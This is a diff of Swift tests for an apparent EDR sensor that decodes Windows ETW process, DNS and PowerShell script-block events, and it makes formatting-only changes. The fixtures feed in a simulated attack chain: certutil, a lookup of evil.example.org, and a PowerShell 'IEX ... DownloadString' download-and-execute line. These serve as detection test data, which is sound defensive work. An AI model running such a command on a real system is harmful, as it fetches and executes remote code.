@@ -23,8 +23,9 @@ struct NativeSensorTests {
             start(4100, 4, "\\Windows\\System32\\cmd.exe"),
             start(4101, 4100, "\\Windows\\System32\\certutil.exe", 1),
             Fixtures.dnsCompleted(pid: 4101, name: "evil.example.org", status: 0, results: "203.0.113.7;", at: at(2)),
-            Fixtures.scriptBlock(pid: 4100, text: "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
-                                 id: "{6b6f6c6f-0000-4000-8000-000000000001}", path: "", at: at(3)),
+            Fixtures.scriptBlock(
+                pid: 4100, text: "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+                id: "{6b6f6c6f-0000-4000-8000-000000000001}", path: "", at: at(3))
         ]
         var fixture = [UInt8]()
         for r in records {
@@ -36,8 +37,12 @@ struct NativeSensorTests {
         let framesPath = work.appendingPathComponent("frames.bin").path
         try Data(fixture).write(to: URL(fileURLWithPath: fixturePath))
 
-        let status = try runSensor(bin, ["--write-frames", "Z:" + framesPath.replacingOccurrences(of: "/", with: "\\"),
-                                         "--fixture", "Z:" + fixturePath.replacingOccurrences(of: "/", with: "\\")])
+        let status = try runSensor(
+            bin,
+            [
+                "--write-frames", "Z:" + framesPath.replacingOccurrences(of: "/", with: "\\"),
+                "--fixture", "Z:" + fixturePath.replacingOccurrences(of: "/", with: "\\")
+            ])
         try #require(status == 0, "edr-sensor.exe --write-frames exit status")
 
         var decoder = FrameDecoder()
@@ -127,8 +132,11 @@ func deviceMapRecord(_ entries: [(drive: String, device: String)]) -> Fixture {
         b.utf16z("Drive[\(i)]", at: nil, e.drive)
         b.utf16z("Device[\(i)]", at: nil, e.device)
     }
-    return Fixture(name: "edr-sensor 1 v0", record: ETWRecord(providerID: WindowsProvider.edrSensor, eventID: 1, version: 0,
-                   processID: 4, timestamp: at(0), userData: b.bytes), layout: b)
+    return Fixture(
+        name: "edr-sensor 1 v0",
+        record: ETWRecord(
+            providerID: WindowsProvider.edrSensor, eventID: 1, version: 0,
+            processID: 4, timestamp: at(0), userData: b.bytes), layout: b)
 }
 
 @Suite("Drive map")
@@ -146,7 +154,7 @@ struct DriveMapTests {
         #expect(throws: ETWDecodeError.self) { try d.decode(deviceMapRecord([("C:", "HarddiskVolume3")]).record) }
         do {
             var r = deviceMapRecord([("C:", vol)]).record
-            r.userData[0] = 2   // says two entries, holds one
+            r.userData[0] = 2  // says two entries, holds one
             _ = try d.decode(r)
             Issue.record("a short map must not decode")
         } catch {
